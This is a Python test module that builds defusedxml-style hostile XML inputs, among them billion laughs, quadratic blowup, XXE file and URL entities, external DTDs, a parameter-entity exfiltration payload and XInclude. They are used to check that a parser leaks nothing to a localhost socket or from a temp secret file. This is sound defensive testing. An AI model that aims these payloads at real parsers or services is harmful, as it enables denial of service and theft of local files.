"""The classic hostile XML documents (defusedxml's list), and probes that prove nothing leaked.

``listening_port`` gives a bound, listening, non-blocking TCP socket on 127.0.0.1: after a parse,
``accept()`` must find no connection in the backlog (libxml2 connects from C, so patching
Python's ``socket`` alone would prove nothing). ``secret_file`` is a local file whose content
must never show up in a tree, a result or an error.
"""

from __future__ import annotations

import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

SECRET = "S3CRET-LOCAL-FILE-CONTENT-7f1c"


@pytest.fixture
def listening_port() -> Iterator[socket.socket]:
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.setblocking(False)
    yield server
    server.close()


def assert_no_connection(server: socket.socket) -> None:
    try:
        connection, _ = server.accept()
    except BlockingIOError:
        return
    connection.close()
    pytest.fail("the parser opened a connection")


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET)
    return path


def hostile_documents(secret: Path, port: int) -> dict[str, bytes]:
    url = f"http://127.0.0.1:{port}"
    file_url = secret.resolve().as_uri()
    laughs = "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    return {
        "billion_laughs": (
            f'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">{laughs}]>'
            "<lolz>&lol9;</lolz>"
        ).encode(),
        "quadratic_blowup": (
            f'<?xml version="1.0"?><!DOCTYPE q [<!ENTITY a "{"x" * 50_000}">]>'
            f"<q>{'&a;' * 2_000}</q>"
        ).encode(),
        "external_entity_file": (
            f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "{file_url}">]><r>&x;</r>'
        ).encode(),
        "external_entity_url": (
            f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "{url}/e">]><r>&x;</r>'
        ).encode(),
        "external_dtd": (
            f'<?xml version="1.0"?><!DOCTYPE r SYSTEM "{url}/d.dtd"><r>x</r>'
        ).encode(),
        "external_dtd_public": (
            f'<?xml version="1.0"?><!DOCTYPE r PUBLIC "-//EVIL//X" "{url}/p.dtd"><r>x</r>'
        ).encode(),
        "parameter_entity_url": (
            f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "{url}/p"> %p;]><r>x</r>'
        ).encode(),
        "parameter_entity_file": (
            f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "{file_url}"> %p;]><r>x</r>'
        ).encode(),
        "parameter_entity_exfiltration": (
            f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % f SYSTEM "{file_url}">'
            f"<!ENTITY % d \"<!ENTITY &#x25; e SYSTEM '{url}/?%f;'>\"> %d; %e;]><r>x</r>"
        ).encode(),
        "internal_entity": (
            b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x "harmless">]><r>&x;</r>'
        ),
        "xinclude": (
            f'<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{file_url}" '
            'parse="text"/></r>'
        ).encode(),
    }


HOSTILE_NAMES = [
    "billion_laughs",
    "quadratic_blowup",
    "external_entity_file",
    "external_entity_url",
    "external_dtd",
    "external_dtd_public",
    "parameter_entity_url",
    "parameter_entity_file",
    "parameter_entity_exfiltration",
    "internal_entity",
]
